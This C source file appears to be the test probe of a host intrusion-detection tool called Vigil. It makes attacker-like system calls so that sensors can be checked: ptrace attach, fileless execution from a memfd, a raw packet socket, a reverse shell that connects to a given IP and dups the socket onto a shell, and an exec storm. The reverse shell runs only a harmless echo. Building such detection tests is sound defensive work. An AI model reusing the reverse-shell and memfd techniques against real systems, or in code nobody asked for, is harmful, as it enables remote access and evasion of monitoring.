/*
 * Vigil's test probe: a static binary run inside test containers to make the system calls the host
 * sensors must see, and the exec storm of bench/exec-storm.sh.
 * Modes that make a call stay alive 0.3-0.5 s afterwards, as an attacker's tool would, so that the
 * sensors can still read the process on a loaded machine.
 *   probe ptrace            attach to and detach from a child (PTRACE_ATTACH)
 *   probe memfd PATH ARGS   copy PATH into a memfd and execute it from there
 *   probe packet            open and close an AF_PACKET socket
 *   probe revshell IP PORT  connect, dup2 the socket onto 0,1,2 and exec a shell reading commands from it
 *   probe symlink TARGET LINK   create a symlink, then stay alive half a second as an attacker's shell would
 *   probe storm RATE SECS PATH   fork+exec PATH RATE times a second for SECS seconds; prints the count
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long long now_ns(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

static int do_ptrace(void) {
    pid_t child = fork();
    if (child == 0) {
        pause();
        _exit(0);
    }
    if (ptrace(PTRACE_ATTACH, child, 0, 0) != 0) { perror("ptrace"); kill(child, SIGKILL); return 1; }
    waitpid(child, 0, 0);
    ptrace(PTRACE_DETACH, child, 0, 0);
    kill(child, SIGKILL);
    waitpid(child, 0, 0);
    usleep(300000);
    return 0;
}

static int do_memfd(int argc, char **argv) {
    int in = open(argv[2], O_RDONLY);
    if (in < 0) { perror("open"); return 1; }
    int fd = memfd_create("vigil-probe", 0);
    if (fd < 0) { perror("memfd_create"); return 1; }
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) {
        if (write(fd, buf, n) != n) { perror("write"); return 1; }
    }
    close(in);
    extern char **environ;
    fexecve(fd, &argv[3], environ);
    perror("fexecve");
    return 1;
}

static int do_packet(void) {
    int s = socket(AF_PACKET, SOCK_RAW, 0);
    if (s < 0) { perror("socket"); return 1; }
    close(s);
    usleep(300000);
    return 0;
}

static int do_revshell(const char *ip, int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("connect"); return 1; }
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    execl("/bin/sh", "sh", "-c", "echo vigil; read line", (char *)0);
    return 1;
}

static int do_symlink(const char *target, const char *link) {
    if (symlink(target, link) != 0) { perror("symlink"); return 1; }
    usleep(500000);
    return 0;
}

static int do_storm(long rate, long secs, char *path) {
    long long start = now_ns();
    long long interval = 1000000000LL / rate;
    long launched = 0;
    long total = rate * secs;
    char *args[] = {path, 0};
    extern char **environ;
    while (launched < total) {
        long long due = start + launched * interval;
        long long t = now_ns();
        if (t < due) {
            struct timespec d = {(due - t) / 1000000000LL, (due - t) % 1000000000LL};
            nanosleep(&d, 0);
        }
        pid_t p = vfork();
        if (p == 0) {
            execve(path, args, environ);
            _exit(127);
        }
        if (p > 0) {
            launched++;
            waitpid(p, 0, 0);
        }
    }
    double elapsed = (now_ns() - start) / 1e9;
    printf("%ld %.3f\n", launched, elapsed);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    if (!strcmp(argv[1], "ptrace")) return do_ptrace();
    if (!strcmp(argv[1], "memfd") && argc >= 4) return do_memfd(argc, argv);
    if (!strcmp(argv[1], "packet")) return do_packet();
    if (!strcmp(argv[1], "revshell") && argc >= 4) return do_revshell(argv[2], atoi(argv[3]));
    if (!strcmp(argv[1], "symlink") && argc >= 4) return do_symlink(argv[2], argv[3]);
    if (!strcmp(argv[1], "storm") && argc >= 5) return do_storm(atol(argv[2]), atol(argv[3]), argv[4]);
    fprintf(stderr, "usage: probe ptrace|memfd PATH ARG0…|packet|revshell IP PORT|symlink T L|storm RATE SECS PATH\n");
    return 2;
}
